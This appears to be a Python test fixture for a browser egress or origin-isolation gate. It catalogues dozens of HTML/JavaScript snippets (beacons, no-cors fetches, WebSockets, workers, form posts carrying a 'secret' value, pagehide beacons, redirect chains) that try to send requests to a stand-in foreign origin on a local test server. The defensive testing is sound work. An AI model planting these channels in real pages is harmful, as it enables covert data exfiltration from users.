"""The tricks by which a page reaches another origin, and the pages that try them; tests of each gate share them."""

from __future__ import annotations

from hostile_site import Rogue

# Each in-page trick says its name to the foreign origin: by itself (F), or by a redirect of our own (O/to-, O/read).
# {F} foreign, {O} own, {W} foreign as ws://, {L} our own server as another site; {n} the trick's name.
TRICKS = {
    "img": "<img src='{F}/{n}'>",
    "css": "<style>body{{background:url({F}/{n})}}</style>",
    "script": "<script src='{F}/{n}'></script>",
    "iframe": "<iframe src='{F}/{n}'></iframe>",
    "object": "<object data='{F}/{n}'></object>",
    "video": "<video src='{F}/{n}' preload=auto></video>",
    "prefetch": "<link rel=prefetch href='{F}/{n}'>",
    "preload": "<link rel=preload as=script href='{F}/{n}'>",
    "stylesheet": "<link rel=stylesheet href='{F}/{n}'>",
    "fetch": "<script>fetch('{F}/{n}',{{method:'POST',mode:'no-cors',body:'x'}})</script>",
    "keepalive": "<script>fetch('{F}/{n}',{{method:'POST',mode:'no-cors',keepalive:true,body:'x'}})</script>",
    "xhr": "<script>var x=new XMLHttpRequest();x.open('POST','{F}/{n}');x.send('x')</script>",
    "beacon": "<script>navigator.sendBeacon('{F}/{n}','x')</script>",
    "event-source": "<script>new EventSource('{F}/{n}')</script>",
    "web-socket": "<script>new WebSocket('{W}/{n}')</script>",
    "worklet": "<script>CSS.paintWorklet?.addModule('{F}/{n}').catch(()=>0)</script>",
    "ping": "<a id=p ping='{F}/{n}' href='#'>x</a><script>p.click()</script>",
    "popup": "<script>window.open('{F}/{n}')</script>",
    "popup-without-opener": "<script>window.open('{F}/{n}','_blank','noopener')</script>",
    "link-blank": "<a id=b target=_blank href='{F}/{n}'>x</a><script>b.click()</script>",
    "form-blank": "<form id=f1 method=post target=_blank action='{F}/{n}'></form><script>f1.submit()</script>",
    "form-in-frame": "<iframe name=i></iframe><form id=g target=i action='{F}/{n}'></form><script>g.submit()</script>",
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{F}/{n}',{{mode:'no-cors'}})`])))</script>",
    "shared-worker": (
        "<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch('{F}/{n}',{{mode:'no-cors'}})`])))</script>"
    ),
    "data-frame": "<iframe src=\"data:text/html,<script>fetch('{F}/{n}',{{mode:'no-cors'}})</script>\"></iframe>",
    "frame-socket": "<iframe srcdoc=\"<script>new WebSocket('{W}/{n}')</script>\"></iframe>",
    "new-frame-socket": "<iframe id=k></iframe><script>new k.contentWindow.WebSocket('{W}/{n}')</script>",
    "popup-socket": "<script>new (window.open('about:blank').WebSocket)('{W}/{n}')</script>",
    "redirected-frame": "<iframe src='{O}/to-{n}'></iframe>",
    "redirected-fetch": "<script>fetch('{O}/to-{n}',{{mode:'no-cors'}})</script>",
    "redirected-image": "<img src='{O}/to-{n}'>",
    "redirected-source": "<script>new EventSource('{O}/to-{n}')</script>",
    "redirected-popup": "<script>window.open('{O}/to-{n}','_blank','noopener')</script>",
    "redirected-worker": (
        "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{O}/to-{n}',{{mode:'no-cors'}})`])))</script>"
    ),
    "redirected-shared-worker": (
        "<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch('{O}/to-{n}',{{mode:'no-cors'}})`])))</script>"
    ),
    "redirected-sandbox": (
        "<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('{O}/to-{n}',{{mode:'no-cors'}})</script>\"></iframe>"
    ),
    "redirected-other-site": "<iframe src='{L}/inner'></iframe>",
    "redirected-read": "<script>fetch('/read?read',{{method:'POST',mode:'no-cors',body:'x'}})</script>",
    "redirected-beacon": "<script>navigator.sendBeacon('/read?beacon','x')</script>",
}
ARRIVES_AS = {"redirected-read": "read", "redirected-beacon": "read"}
# Time for what the page has set going; what was to come has come long before in the control.
OVER = "<script>setTimeout(() => { window.over = true }, 400)</script>"

# What takes the page itself away; {n} names it again.
DEPARTURES = {
    "location": "<script>location='{F}/{n}'</script>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url={F}/{n}'>",
    "form": "<form id=f method=post action='{F}/{n}'><input name=q value=secret></form><script>f.submit()</script>",
    "form-redirected": "<form id=f method=post action='/read'><input name=q value=x></form><script>f.submit()</script>",
    "link": "<a id=a href='{F}/{n}'>x</a><script>a.click()</script>",
    "download": "<a id=a download href='{F}/{n}'>x</a><script>a.click()</script>",
    "beacon-at-the-end": (
        "<script>addEventListener('pagehide',()=>navigator.sendBeacon('{F}/{n}','x'));location='/elsewhere'</script>"
    ),
    "keepalive-at-the-end": (
        "<script>addEventListener('pagehide',()=>fetch('{F}/{n}',{{method:'POST',keepalive:true,mode:'no-cors',"
        "body:'x'}}));location='/elsewhere'</script>"
    ),
}


def html(rogue: Rogue, name: str, trick: str) -> str:
    own, foreign = rogue.own.origin, rogue.foreign.origin
    rogue.own.redirect(f"/to-{name}", f"{foreign}/{name}")
    places = {"F": foreign, "O": own, "W": foreign.replace("http", "ws"), "L": own.replace("127.0.0.1", "localhost")}
    return trick.format(n=name, **places)


def set_the_traps(rogue: Rogue) -> None:
    rogue.own.redirect("/read", f"{rogue.foreign.origin}/read")
    rogue.own.page("/trick", "".join(html(rogue, name, trick) for name, trick in TRICKS.items()) + OVER)
    rogue.own.page("/inner", "<script>fetch('/to-redirected-other-site',{mode:'no-cors'})</script>")


def heard(rogue: Rogue) -> set[str]:
    return {path.removeprefix("/").partition("?")[0] for _, path, _ in rogue.foreign.heard}
